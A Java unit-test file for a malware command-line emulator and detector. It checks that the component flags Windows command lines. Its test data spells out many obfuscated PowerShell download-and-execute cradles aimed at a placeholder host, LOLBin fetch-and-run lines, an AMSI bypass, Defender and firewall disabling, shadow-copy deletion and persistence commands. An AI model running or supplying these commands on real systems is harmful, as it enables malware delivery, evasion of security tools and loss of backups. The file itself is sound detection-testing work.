package dev.peekaboo.emulation.command;

import static org.assertj.core.api.Assertions.assertThat;

import dev.peekaboo.emulation.Trace;
import dev.peekaboo.emulation.Traces;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;

/** Harmless command lines in the styles mailed malware uses, and what they would do. */
class CommandLinesTest {
    private static final String CRADLE =
            "IEX (New-Object Net.WebClient).DownloadString('http://files.example/a.txt')";

    /**
     * A sample.
     *
     * @param expected parts of the lines of the trace
     */
    record Sample(String command, String... expected) {
        @Override
        public String toString() {
            return command.length() > 90 ? command.substring(0, 90) + "..." : command;
        }
    }

    static Stream<Sample> runs_downloaded_code() {
        return Stream.of(
                        "powershell " + CRADLE,
                        "powershell -nop -w hidden -ep bypass -c \"" + CRADLE + "\"",
                        "powershell -enc " + encoded(CRADLE),
                        "powershell.exe -NonI -EncodedCommand " + encoded(CRADLE),
                        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e "
                                + encoded(CRADLE),
                        "cmd /c powershell -enc " + encoded(CRADLE),
                        "cmd.exe /c p^ow^er^she^ll -c \"" + CRADLE + "\"",
                        "cmd /c \"set x=powershell&& call %x% -enc " + encoded(CRADLE) + "\"",
                        "cmd /V:ON /C \"set a=pow& set b=ershell& !a!!b! -enc "
                                + encoded(CRADLE)
                                + "\"",
                        "powershell (New-Object Net.WebClient).DownloadString('http://files.example/a') | IEX",
                        "powershell iwr http://files.example/a -UseBasicParsing | iex",
                        "powershell iex(irm 'http://files.example/a')",
                        "powershell i`e`x (n`ew-obj`ect net.webclient).\"dow`nloadstring\"('http://files.example/a')",
                        "powershell &('I'+'EX') ((&('New'+'-Object') Net.WebClient).DownloadString('http://files.example/a'))",
                        "powershell .($env:ComSpec[4,15,25]-join'') (irm http://files.example/a)",
                        "powershell & ((gv '*mdr*').Name[3,11,2]-join'') (irm http://files.example/a)",
                        "powershell &($PSHome[21]+$PSHome[34]+'x') (irm http://files.example/a)",
                        "powershell $u='htt'+'p://files.example/a';$w=New-Object System.Net.WebClient;IEX $w.DownloadString($u)",
                        "powershell $u=('{1}{0}' -f 'files.example/a','http://');iex (irm $u)",
                        "powershell $u='hXXp://files.example/a' -replace 'XX','tt';iex (irm $u)",
                        "powershell $u='hQQp://files.example/a'.Replace('QQ','tt');iex (irm $u)",
                        "powershell iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
                                + base64(CRADLE)
                                + "')))",
                        "powershell iex([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('"
                                + encoded(CRADLE)
                                + "')))",
                        "powershell iex(-join([char[]](" + numbers(CRADLE, 0) + ")))",
                        "powershell iex((" + numbers(CRADLE, 0) + "|%{[char]$_}) -join '')",
                        "powershell iex(("
                                + numbers(CRADLE, 0)
                                + "|foreach-object{[char][int]$_}) -join '')",
                        "powershell $s='';foreach($c in "
                                + numbers(CRADLE, 0)
                                + "){$s+=[char]$c};iex $s",
                        "powershell $b="
                                + numbers(CRADLE, 0x23)
                                + ";$s='';for($i=0;$i -lt $b.Length;$i++){$s+=[char]($b[$i] -bxor 0x23)};iex $s",
                        "powershell iex(-join("
                                + numbers(CRADLE, 0x41)
                                + "|%{[char]($_ -bxor 0x41)}))",
                        "powershell $s='"
                                + reversed(CRADLE.replace("'", "''"))
                                + "';$a=$s.ToCharArray();[array]::Reverse($a);iex(-join $a)",
                        "powershell $s='"
                                + reversed(CRADLE.replace("'", "''"))
                                + "';iex($s[-1..-($s.Length)] -join '')",
                        "powershell iex(-join('"
                                + numbers(CRADLE, 0).replace(",", "x")
                                + "'.Split('x')|%{[char][int]$_}))",
                        "powershell $m=New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
                                + gzip(CRADLE)
                                + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GZipStream($m,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()",
                        "powershell iex((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('"
                                + deflate(CRADLE)
                                + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd())",
                        "powershell function g($u){(New-Object Net.WebClient).DownloadString($u)} iex (g 'http://files.example/a')",
                        "powershell try{iex (irm http://files.example/a)}catch{}",
                        "powershell [scriptblock]::Create((irm http://files.example/a)).Invoke();iex (irm http://files.example/a)",
                        "powershell Set-Alias q Invoke-Expression; iex (irm 'http://files.example/a')",
                        "powershell $x=irm http://files.example/a; Invoke-Expression -Command $x",
                        "mshta http://files.example/a.hta",
                        "mshta.exe \"https://files.example/a.hta\"",
                        "regsvr32 /s /n /u /i:http://files.example/a.sct scrobj.dll",
                        "msiexec /q /i http://files.example/a.msi",
                        "wmic os get /format:\"http://files.example/a.xsl\"",
                        "forfiles /p c:\\windows /m notepad.exe /c \"mshta http://files.example/a\"",
                        "conhost --headless powershell iex(irm files.example/a)",
                        "cmd /c start /min powershell -w 1 iex(irm http://files.example/a)",
                        "cmd /c \"for %i in (1) do mshta http://files.example/a\"")
                .map(command -> new Sample(command, "code.run"));
    }

    static Stream<Sample> fetches_a_program_and_runs_it() {
        return Stream.of(
                        "cmd /c certutil -urlcache -split -f http://files.example/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
                        "cmd /c bitsadmin /transfer j /download /priority high http://files.example/a.exe C:\\Users\\Public\\a.exe && start C:\\Users\\Public\\a.exe",
                        "cmd /c curl -s -o %APPDATA%\\a.exe http://files.example/a.exe && %APPDATA%\\a.exe",
                        "cmd /c \"curl http://files.example/a.dll --output C:\\ProgramData\\a.dll & rundll32 C:\\ProgramData\\a.dll,Start\"",
                        "powershell (New-Object Net.WebClient).DownloadFile('http://files.example/a.exe',\"$env:TEMP\\a.exe\");Start-Process \"$env:TEMP\\a.exe\"",
                        "powershell iwr -Uri http://files.example/a.exe -OutFile $env:APPDATA\\a.exe; & $env:APPDATA\\a.exe",
                        "powershell Start-BitsTransfer -Source http://files.example/a.exe -Destination C:\\Users\\Public\\a.exe; saps C:\\Users\\Public\\a.exe",
                        "powershell $p=$env:temp+'\\a.exe';foreach($u in 'http://one.example/a','http://two.example/a'){try{(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p;break}catch{}}",
                        "powershell $d=(New-Object Net.WebClient).DownloadData('http://files.example/a');[IO.File]::WriteAllBytes('C:\\Users\\Public\\a.exe',$d);[Diagnostics.Process]::Start('C:\\Users\\Public\\a.exe')")
                .map(command -> new Sample(command, "net.http", "file.write", "file=downloaded"));
    }

    static Stream<Sample> does_what_it_says() {
        return Stream.of(
                new Sample(
                        "powershell Add-MpPreference -ExclusionPath C:\\",
                        "security.change {what=defender"),
                new Sample(
                        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
                        "security.change"),
                new Sample(
                        "powershell [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
                        "security.change {what=amsi"),
                new Sample(
                        "powershell [Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMA')).EntryPoint.Invoke($null,@())",
                        "how=memory"),
                new Sample(
                        "cmd /c vssadmin delete shadows /all /quiet",
                        "security.change {what=backups"),
                new Sample("cmd /c wmic shadowcopy delete", "what=backups"),
                new Sample("cmd /c bcdedit /set {default} recoveryenabled No", "what=backups"),
                new Sample("netsh advfirewall set allprofiles state off", "what=firewall off"),
                new Sample("sc stop WinDefend", "what=defender service"),
                new Sample(
                        "schtasks /create /sc minute /mo 5 /tn Update /tr \"mshta http://files.example/a\" /f",
                        "schedule.task {command=mshta",
                        "net.http"),
                new Sample(
                        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\a.exe /f",
                        "registry.write {key=HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
                new Sample(
                        "wmic process call create \"powershell -w hidden calc\"",
                        "wmi.exec",
                        "image=powershell"),
                new Sample(
                        "cmd /c echo WScript.Echo(1)> %TEMP%\\a.js & wscript %TEMP%\\a.js",
                        "file.write {path=C:\\Users\\Admin\\AppData\\Local\\Temp\\a.js",
                        "image=wscript"),
                new Sample("cmd /c %COMSPEC:~0,1%alc.exe", "image=calc"),
                new Sample("cmd /c \"set a=cXlc&& call %a:X=a%\"", "process.start"),
                new Sample("rundll32 \\\\files.example@80\\share\\a.dll,Run", "how=remote"),
                new Sample(
                        "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
                        "script.layer"),
                new Sample(
                        "powershell -w hidden -e " + encoded("Start-Sleep 60; calc"),
                        "hidden=yes",
                        "encoded=yes",
                        "sleep {seconds=60",
                        "image=calc"),
                new Sample(
                        "powershell [Environment]::GetFolderPath('Startup') | %{ Set-Content \"$_\\a.bat\" 'calc' }",
                        "Start Menu\\Programs\\Startup\\a.bat"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void runs_downloaded_code(Sample sample) {
        Trace trace = read(sample.command());

        assertShows(trace, sample);
        assertThat(trace.isDecided()).as(describe(trace)).isTrue();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void fetches_a_program_and_runs_it(Sample sample) {
        Trace trace = read(sample.command());

        assertShows(trace, sample);
        assertThat(Traces.findings(trace)).as(describe(trace)).contains("download_and_run");
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void does_what_it_says(Sample sample) {
        assertShows(read(sample.command()), sample);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource
    void harmless_commands_are_not_bad(String command) {
        Trace trace = read(command);

        assertThat(Traces.isBad(trace.findings())).as(describe(trace)).isFalse();
    }

    static List<String> harmless_commands_are_not_bad() {
        return List.of(
                "notepad C:\\readme.txt",
                "cmd /c dir C:\\ > C:\\list.txt",
                "powershell Get-ChildItem C:\\ | Sort-Object Length",
                "powershell -Command \"Get-Service | Where-Object {$_.Status -eq 'Running'}\"",
                "cmd /c xcopy /s C:\\a D:\\b",
                "msiexec /i setup.msi /qn",
                "explorer C:\\Users",
                "ping 192.0.2.1");
    }

    @Test
    void layers_are_kept_as_evidence() {
        Trace trace = read("powershell -enc " + encoded(CRADLE));

        assertThat(trace.layers()).anyMatch(layer -> layer.text().equals(CRADLE));
    }

    @Test
    void what_cannot_be_read_is_said_and_searched_for_plain_words() {
        Trace trace =
                read(
                        "powershell iex (New-Object Net.WebClient).DownloadString('http://files.example/a') ) ]]] {");

        assertThat(trace.coverage().unsupported()).isNotEmpty();
        assertThat(Traces.findings(trace)).contains("runs_downloaded_code");
    }

    private static Trace read(String command) {
        Trace trace = Traces.fresh();
        trace.starts(command, "explorer");
        new CommandLines().read(command, "explorer", trace, 0);
        return trace;
    }

    private static void assertShows(Trace trace, Sample sample) {
        for (String expected : sample.expected())
            assertThat(Traces.lines(trace))
                    .as(describe(trace))
                    .anyMatch(line -> line.contains(expected));
    }

    private static String describe(Trace trace) {
        return String.join("\n", Traces.lines(trace)) + "\n" + trace.coverage();
    }

    static String encoded(String code) {
        return Base64.getEncoder().encodeToString(code.getBytes(StandardCharsets.UTF_16LE));
    }

    private static String base64(String code) {
        return Base64.getEncoder().encodeToString(code.getBytes(StandardCharsets.UTF_8));
    }

    private static String numbers(String code, int key) {
        return code.chars()
                .map(c -> c ^ key)
                .mapToObj(String::valueOf)
                .collect(java.util.stream.Collectors.joining(","));
    }

    private static String reversed(String code) {
        return new StringBuilder(code).reverse().toString();
    }

    private static String gzip(String code) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (GZIPOutputStream packed = new GZIPOutputStream(out)) {
            packed.write(code.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return Base64.getEncoder().encodeToString(out.toByteArray());
    }

    private static String deflate(String code) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (DeflaterOutputStream packed =
                new DeflaterOutputStream(out, new java.util.zip.Deflater(9, true))) {
            packed.write(code.getBytes(StandardCharsets.UTF_8));
        } catch (IOException e) {
            throw new AssertionError(e);
        }
        return Base64.getEncoder().encodeToString(out.toByteArray());
    }
}
